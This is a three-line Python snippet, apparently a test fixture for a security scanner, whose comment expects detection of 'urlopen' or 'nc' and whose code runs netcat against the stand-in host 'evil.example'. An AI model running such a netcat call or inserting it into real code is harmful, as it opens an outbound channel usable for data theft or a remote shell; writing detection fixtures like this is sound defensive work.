# expect: urlopen | nc
import subprocess
subprocess.run(["nc","evil.example","80"])
